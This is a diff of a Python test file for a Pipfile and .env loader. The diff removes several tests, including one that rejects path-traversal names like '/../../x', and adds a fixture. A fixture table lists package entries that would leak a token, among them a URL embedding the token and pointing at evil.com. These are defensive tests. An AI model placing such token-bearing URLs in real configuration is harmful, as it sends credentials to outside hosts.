@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import json
-import os
 import re
 from concurrent.futures import ThreadPoolExecutor
 from contextlib import suppress
@@ -41,13 +40,6 @@ def nested(folder: Path, levels: int) -> Path:
     below = folder.joinpath(*(f"d{number}" for number in range(levels)))
     below.mkdir(parents=True, exist_ok=True)
     return below
-
-
-def test_a_folder_without_pipfile_is_an_empty_project(tmp_path: Path) -> None:
-    project = load(tmp_path)
-    assert (project.pipfile, project.lock, project.directory) == (None, None, str(tmp_path))
-    assert (project.sources(), project.scripts) == ([], {})
-    assert project.assign_variables([]) == {}
 
 
 @pytest.mark.wide
@@ -164,23 +156,6 @@ def test_an_invalid_pipfile_is_an_error_with_file_and_line(tmp_path: Path, text:
     assert re.search(INVALID[text], sentence), sentence
 
 
-@pytest.mark.skipif(
-    not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root can play another user"
-)
-def test_an_unreadable_pipfile_is_an_error_with_the_reason() -> None:
-    with TemporaryDirectory() as name:
-        folder = Path(name)
-        folder.chmod(0o755)
-        path = write_pipfile(folder, SOURCE)
-        path.chmod(0o600)
-        os.seteuid(65534)
-        try:
-            sentence = refusal(folder)
-        finally:
-            os.seteuid(0)
-    assert sentence == f"{path} cannot be read: Permission denied."
-
-
 def test_dotenv_overrides_the_environment(tmp_path: Path) -> None:
     write_pipfile(tmp_path, SOURCE.replace("team", "${REPO}"))
     (tmp_path / ".env").write_text("REPO=own\nEMPTY=\nNOTHING\n")
@@ -209,6 +184,7 @@ def test_pipenv_dotenv_location_names_a_file_that_may_set_pipenv_pipfile(tmp_pat
 SENDS = f"would send the token in {TOKEN}"
 ENTRIES = {
     f'orb = {{file = "https://aws:${TOKEN}@evil.com/orb.whl"}}': SENDS,
+    f'orb = {{file = "{URL.replace("my-dom", "other")}"}}': SENDS,
     f'orb = "${{{TOKEN}}}"': SENDS,
     f'orb = {{extras = ["${{{TOKEN}}}"], version = "*"}}': SENDS,
     # pip would combine these.
@@ -237,15 +213,6 @@ def test_token_variable_may_be_in_scripts_and_the_password_of_a_package_url(tmp_
     project = load(tmp_path)
     assert set(project.assign_variables(project.sources())) == {TOKEN}
     assert project.scripts == {"x": f"echo ${TOKEN}"}
-
-
-@pytest.mark.parametrize("name", ["/../../x", "a\\\\b", "a\\nb"])
-def test_pylock_name_must_not_be_a_path(name: str, tmp_path: Path) -> None:
-    write_pipfile(tmp_path, SOURCE, f'[pipenv]\npylock_name = "{name}"\n')
-    with pytest.raises(ConfigurationError, match="is not a valid part of a file name"):
-        _ = load(tmp_path).pylock
-    write_pipfile(tmp_path, SOURCE, '[pipenv]\npylock_name = "py3.12 dev"\n')
-    assert load(tmp_path).pylock == str(tmp_path / "pylock.py3.12 dev.toml")
 
 
 COPIES = [
